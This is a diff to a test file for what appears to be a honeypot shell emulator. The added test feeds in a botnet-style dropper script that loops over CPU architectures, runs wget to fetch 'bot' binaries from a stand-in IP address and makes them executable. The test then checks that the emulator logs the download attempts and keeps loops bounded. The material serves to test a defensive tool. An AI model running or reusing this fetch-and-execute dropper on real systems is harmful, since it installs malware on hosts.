@@ -62,6 +62,26 @@ test('shell: lists, pipes, redirections and substitutions', async () => {
   assert.equal((await run('X=5; echo $X; export Y=6; echo ${Y}')).out, '5\n6\n')
 })
 
+test('shell: dropper-script control flow (if/for/while, test, comments) runs bounded', async () => {
+  const { run, events } = shell()
+  const script = [
+    '#!/bin/sh',
+    'cd /tmp || cd /var/run  # pick a writable dir',
+    'for a in x86 arm7 mips; do',
+    '  wget http://198.51.100.9/bins/bot.$a -O .b; chmod +x .b',
+    'done',
+    'if [ -f /etc/passwd ] && [ ! -d /nope ]; then echo linux; elif true; then echo other; else echo none; fi',
+    'n=0; while true; do echo tick; break; done',
+    'for i in 1 2 3; do if [ $i -eq 2 ]; then continue; fi; echo i$i; done',
+    'until false; do echo spin; done | wc -l',
+  ].join('\n')
+  const r = await run(script)
+  assert.equal(r.out.split('\n').filter((l) => !l.startsWith('--') && !l.startsWith('Connecting') && !l.startsWith('Retrying') && l !== '').join('|'),
+    'linux|tick|i1|i3|' + Array(64).fill('spin').join('|'))
+  assert.deepEqual(events.filter(([t]) => t === 'download_attempt').map(([, f]) => f.url), ['x86', 'arm7', 'mips'].map((a) => `http://198.51.100.9/bins/bot.${a}`))
+  assert.equal((await run('if true; then echo')).code, 2)
+})
+
 test('shell: the bait user cannot read root files; sudo asks, logs and grants', async () => {
   const { run, sh, events } = shell({ user: 'ubuntu', secrets: ['wrong', 'ubuntu1'] })
   assert.equal(prompt(sh), 'ubuntu@web-01:~$ ')
